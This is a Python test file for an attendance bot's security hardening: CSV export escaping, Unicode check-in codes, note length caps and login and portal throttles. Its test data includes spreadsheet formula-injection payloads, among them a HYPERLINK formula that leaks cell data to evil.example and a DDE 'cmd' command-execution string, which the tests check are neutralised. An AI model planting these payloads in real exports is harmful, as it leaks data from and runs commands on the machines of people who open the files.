"""Security hardening at the service level: safe CSV exports, Unicode check-in codes,
capped teacher text, cheap abuse throttled before PostgreSQL, login throttles that cannot lock a
victim out, a global cap on portal sign-ons, and deliverability that recovers.

The conversation paths (credentials deleted from the chat) are end to end in
tests/e2e/test_security.py.
"""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta

import pytest

from dal.models import Attendance, AttendanceRecord, Role
from dal.pg import Postgres
from dal.redis.stores import RedisStores
from services.accounts import AccountService
from services.aksis import AksisClient, InvalidCredentials
from services.attendance import NOTE_MAX_CHARS, AttendanceService
from services.checkin_outcomes import CheckInStatus
from services.csv_export import safe_cell
from services.errors import LoginThrottled, PortalBusy
from services.reports import ReportService
from services.text import code_digits
from tests.fakes.aksis_server import FakeAksis
from tests.support import (
    IST,
    RecordingNotifier,
    build_test_services,
    link,
    open_session,
    pg_behind_proxy,
    signed_in,
    student_user,
    teacher_user,
)

NOW = datetime.now(UTC).replace(microsecond=0)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def _accounts(
    pg: Postgres, redis: RedisStores, aksis: AksisClient | None = None, **limits: int
) -> AccountService:
    return build_test_services(pg, redis, aksis=aksis, accounts=limits).accounts


def _attendance(
    pg: Postgres,
    redis: RedisStores,
    notifier: RecordingNotifier | None = None,
    accounts: AccountService | None = None,
) -> AttendanceService:
    """The bot's attendance service; a cold account cache is re-read through `accounts` only
    when one is given."""
    services = build_test_services(pg, redis, notifier, checkins={"linked_accounts": accounts})
    return services.attendance


ARABIC_INDIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
PERSIAN = str.maketrans("0123456789", "۰۱۲۳۴۵۶۷۸۹")
FULL_WIDTH = str.maketrans("0123456789", "０１２３４５６７８９")


# --- 6. exports are safe to open ----------------------------------------------------------


async def test_exported_formula_names_open_as_text(pg_client: Postgres) -> None:
    teacher = teacher_user()
    evil = [
        student_user("2024001", HYPERLINK),
        student_user("2024002", "+1+cmd|' /C calc'!A0"),
        student_user("2024003", "-2+3"),
        student_user("2024004", "@SUM(A1:A9)"),
        student_user("2024005", "\tTAB"),
        student_user("2024006", "\rCR"),
        student_user("2024007", "AYŞE YILDIZ"),
    ]
    await pg_client.accounts.add_users(users=[teacher, *evil])
    aid = uuid.uuid4()
    await pg_client.attendance.add_attendances(
        attendances=[
            Attendance(
                attendance_id=aid,
                teacher_school_number=teacher.user_school_number,
                lesson_name="=cmd",
                start_time=NOW - timedelta(hours=1),
                end_time=NOW,
            )
        ]
    )
    await pg_client.attendance.add_attendance_records(
        records=[
            AttendanceRecord(
                attendance_id=aid,
                student_number=s.user_school_number,
                is_attended=i % 2 == 0,
                attendance_time=NOW - timedelta(minutes=30) if i % 2 == 0 else None,
                fail_reason=None if i % 2 == 0 else "REJECTED: =1+1",
            )
            for i, s in enumerate(evil)
        ]
    )
    reports = ReportService(
        accounts=pg_client.accounts,
        attendance=pg_client.attendance,
        corrections=pg_client.corrections,
        reports=pg_client.reports,
        tz=IST,
    )
    _, data = await reports.export_csv(
        teacher=signed_in(teacher.user_school_number, Role.TEACHER), attendance_id=aid
    )
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    names = {row[0]: row[1] for row in rows[1:]}
    assert names["2024001"] == "'" + HYPERLINK  # opens as text, not as a link
    assert names["2024002"].startswith("'+")
    assert names["2024003"] == "'-2+3"
    assert names["2024004"] == "'@SUM(A1:A9)"
    assert names["2024005"] == "'\tTAB"
    assert names["2024006"] == "'\rCR"
    assert names["2024007"] == "AYŞE YILDIZ"  # ordinary text is untouched
    for row in rows[1:]:
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


def test_safe_cell_leaves_ordinary_values_alone() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(2024001) == "2024001"
    assert safe_cell("present") == "present"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell("=") == "'="


# --- 5. input normalisation ----------------------------------------------------------------


def test_code_digits_reads_any_scripts_decimal_digits() -> None:
    assert code_digits("١٢٣٤٥٦") == "123456"
    assert code_digits(" ۱۲۳۴۵۶ ") == "123456"
    assert code_digits("１２３４５６") == "123456"
    assert code_digits("12345٦") == "123456"
    for not_a_code in ("12345", "1234567", "12 345", "¹²³⁴⁵⁶", "abcdef", "", None):
        assert code_digits(not_a_code) is None, not_a_code


@pytest.mark.parametrize("digits", [ARABIC_INDIC, PERSIAN, FULL_WIDTH])
async def test_a_code_in_other_digits_checks_in(
    pg_client: Postgres, redis_client: RedisStores, digits: dict[int, str]
) -> None:
    session = await open_session(
        redis_client,
        teacher=teacher_user(),
        start=NOW - timedelta(minutes=1),
        end=NOW + timedelta(minutes=50),
        enrolled=["2024001"],
    )
    student = signed_in("2024001", Role.STUDENT, telegram_id=501)
    await redis_client.users.save_user_session(session=student, ttl_seconds=3600)
    service = _attendance(pg_client, redis_client)

    result = await service.check_in(telegram_id=501, code=session.code.translate(digits))

    assert result.status is CheckInStatus.OK_PRESENT
    assert result.record is not None and result.record.student_number == "2024001"


async def test_text_that_cannot_be_a_code_is_not_counted_as_a_wrong_code(
    pg_client: Postgres, redis_client: RedisStores
) -> None:
    await redis_client.users.save_user_session(
        session=signed_in("2024001", Role.STUDENT, telegram_id=501), ttl_seconds=3600
    )
    service = _attendance(pg_client, redis_client)
    for _ in range(10):
        result = await service.check_in(telegram_id=501, code="¹²³⁴⁵⁶")
        assert result.status is CheckInStatus.WRONG_CODE
    assert await redis_client.guards.get_counter(key="throttle:checkin:501") == (0, 0)


async def test_a_long_rejection_note_is_capped_once_where_it_is_stored(
    pg_client: Postgres, redis_client: RedisStores
) -> None:
    teacher = teacher_user()
    session = await open_session(
        redis_client,
        teacher=teacher,
        start=NOW - timedelta(minutes=1),
        end=NOW + timedelta(minutes=50),
        enrolled=["2024001"],
    )
    await redis_client.users.save_user_session(
        session=signed_in("2024001", Role.STUDENT, telegram_id=501), ttl_seconds=3600
    )
    notifier = RecordingNotifier()
    service = _attendance(pg_client, redis_client, notifier)
    await service.check_in(telegram_id=501, code=session.code)

    typed = "<&>" * 1365  # 4,095 characters, each an HTML entity once escaped
    stored = await service.review(
        teacher=signed_in(teacher.user_school_number, Role.TEACHER, telegram_id=9),
        attendance_id=session.attendance_id,
        student_number="2024001",
        accept=False,
        reason=typed,
    )

    assert stored.fail_reason == "REJECTED"
    note = stored.teacher_note
    assert note is not None
    assert len(note) == NOTE_MAX_CHARS and note.endswith("…")
    (notice,) = notifier.keys("student.rejected")
    assert notice.values["reason"] == f" ({note})"  # what is stored is what the student sees


# --- 7. cheap abuse is throttled early -----------------------------------------------------


async def test_codes_from_an_unlinked_account_cost_no_query_after_the_throttle(
    pg_dsn: str, pg_client: Postgres, redis_client: RedisStores
) -> None:
    """Every code from an account with no Redis session used to look the account up in
    PostgreSQL. Now such codes count like wrong codes; once throttled, none reaches it."""
    session = await open_session(
        redis_client,
        teacher=teacher_user(),
        start=NOW - timedelta(minutes=1),
        end=NOW + timedelta(minutes=50),
        enrolled=["*"],
    )
    async with pg_behind_proxy(pg_dsn) as (pg, proxy):
        attendance = _attendance(pg, redis_client, accounts=_accounts(pg, redis_client))
        statuses = []
        chunks_after_throttle = None
        for _ in range(50):
            result = await attendance.check_in(telegram_id=777, code=session.code)
            statuses.append(result.status)
            if result.status is CheckInStatus.THROTTLED and chunks_after_throttle is None:
                chunks_after_throttle = proxy.chunks_up
        assert statuses[:5] == [CheckInStatus.NOT_LINKED] * 5
        assert statuses[5:] == [CheckInStatus.THROTTLED] * 45
        assert chunks_after_throttle is not None and chunks_after_throttle > 0  # the counter works
        assert proxy.chunks_up == chunks_after_throttle  # 45 codes, not one PostgreSQL query


async def test_a_linked_student_with_a_cold_cache_still_checks_in(
    pg_client: Postgres, redis_client: RedisStores
) -> None:
    student = student_user("2024001")
    await link(pg_client, student, 501)
    session = await open_session(
        redis_client,
        teacher=teacher_user(),
        start=NOW - timedelta(minutes=1),
        end=NOW + timedelta(minutes=50),
        enrolled=["2024001"],
    )
    attendance = _attendance(pg_client, redis_client, accounts=_accounts(pg_client, redis_client))
    result = await attendance.check_in(telegram_id=501, code=session.code)
    assert result.status is CheckInStatus.OK_PRESENT


@pytest.fixture
async def portal() -> AsyncIterator[FakeAksis]:
    async with FakeAksis() as fake:
        for i in range(1, 6):
            fake.add_student(f"student{i}", "right-password", f"ÖĞRENCİ {i}", f"202400{i}")
        yield fake


async def test_another_account_cannot_lock_the_owner_of_a_user_name_out(
    pg_client: Postgres, redis_client: RedisStores, portal: FakeAksis
) -> None:
    accounts = _accounts(pg_client, redis_client, portal.live_client())
    attacker, owner = 300, 201
    for _ in range(5):
        with pytest.raises(InvalidCredentials):
            await accounts.login(
                telegram_id=attacker, language="en", username="student1", password="guess"
            )
    with pytest.raises(LoginThrottled):  # the attacker's account is paused ...
        await accounts.login(
            telegram_id=attacker, language="en", username="student1", password="guess"
        )
    # ... and the owner, from their own account, signs in.
    outcome = await accounts.login(
        telegram_id=owner, language="en", username="student1", password="right-password"
    )
    assert outcome.session.school_number == "2024001"


async def test_a_user_name_has_its_own_higher_ceiling(
    pg_client: Postgres, redis_client: RedisStores, portal: FakeAksis
) -> None:
    """Many accounts guessing one user name are stopped at the user name's ceiling."""
    accounts = _accounts(pg_client, redis_client, portal.live_client(), max_failures_per_username=8)
    for attacker in range(300, 304):
        for _ in range(2):
            with pytest.raises(InvalidCredentials):
                await accounts.login(
                    telegram_id=attacker, language="en", username="student2", password="guess"
                )
    with pytest.raises(LoginThrottled):
        await accounts.login(
            telegram_id=399, language="en", username="student2", password="right-password"
        )


async def test_portal_sign_ons_are_capped_per_minute(
    pg_client: Postgres, redis_client: RedisStores, portal: FakeAksis
) -> None:
    accounts = _accounts(pg_client, redis_client, portal.live_client(), portal_logins_per_minute=3)
    for i in range(1, 4):
        await accounts.login(
            telegram_id=200 + i, language="en", username=f"student{i}", password="right-password"
        )
    posts = len(portal.requests_to("/Account/LogOn", "POST"))
    assert posts >= 3
    with pytest.raises(PortalBusy) as busy:
        await accounts.login(
            telegram_id=204, language="en", username="student4", password="right-password"
        )
    assert 0 < busy.value.retry_after <= 60
    assert len(portal.requests_to("/Account/LogOn", "POST")) == posts  # the portal was not asked


async def test_failed_logins_are_still_counted_after_logout(
    pg_client: Postgres, redis_client: RedisStores, portal: FakeAksis
) -> None:
    """Five wrong passwords, /logout, five more used to be an endless loop."""
    accounts = _accounts(pg_client, redis_client, portal.live_client())
    attacker = 300
    for _ in range(5):
        with pytest.raises(InvalidCredentials):
            await accounts.login(
                telegram_id=attacker, language="en", username="student3", password="guess"
            )
    await accounts.logout(telegram_id=attacker)
    posts = len(portal.requests_to("/Account/LogOn", "POST"))
    with pytest.raises(LoginThrottled):
        await accounts.login(
            telegram_id=attacker, language="en", username="student4", password="guess"
        )
    assert await accounts.login_retry_after(telegram_id=attacker) > 0
    assert len(portal.requests_to("/Account/LogOn", "POST")) == posts  # the portal was not asked


async def test_portal_sign_ons_are_capped_per_account_whatever_their_outcome(
    pg_client: Postgres, redis_client: RedisStores, portal: FakeAksis
) -> None:
    """Successful logins reset the failure counter, and /logout resets nothing: neither lets
    one account (or one user name) spend more than its hourly share of the portal."""
    accounts = _accounts(pg_client, redis_client, portal.live_client(), signons_per_hour=3)
    for _ in range(3):
        await accounts.login(
            telegram_id=300, language="en", username="student1", password="right-password"
        )
        await accounts.logout(telegram_id=300)
    posts = len(portal.requests_to("/Account/LogOn", "POST"))
    with pytest.raises(LoginThrottled) as paused:
        await accounts.login(
            telegram_id=300, language="en", username="student2", password="right-password"
        )
    assert 3000 < paused.value.retry_after <= 3600
    # The user name's own ceiling holds from any other account too.
    with pytest.raises(LoginThrottled):
        await accounts.login(
            telegram_id=301, language="en", username="student1", password="right-password"
        )
    assert len(portal.requests_to("/Account/LogOn", "POST")) == posts
    outcome = await accounts.login(
        telegram_id=301, language="en", username="student2", password="right-password"
    )
    assert outcome.session.school_number == "2024002"


# --- 4. deliverability recovers ------------------------------------------------------------


async def test_marks_made_before_start_up_are_cleared_by_the_next_update(
    pg_client: Postgres, redis_client: RedisStores
) -> None:
    """A mark written to PostgreSQL only (by an older version, or before Redis was emptied)
    is loaded at start-up, so the account's next update still clears it."""
    await link(pg_client, student_user("2024001"), 501)
    await pg_client.accounts.mark_undeliverable(
        telegram_id=501, reason="Forbidden: bot was blocked"
    )
    accounts = _accounts(pg_client, redis_client)
    assert await pg_client.accounts.get_contacts(school_numbers=["2024001"]) == []
    assert not await accounts.heard_from(telegram_id=501)  # Redis does not know it yet

    assert await accounts.load_undeliverable() == 1
    assert await accounts.heard_from(telegram_id=501)
    assert len(await pg_client.accounts.get_contacts(school_numbers=["2024001"])) == 1
    assert not await accounts.heard_from(telegram_id=501)  # once is enough
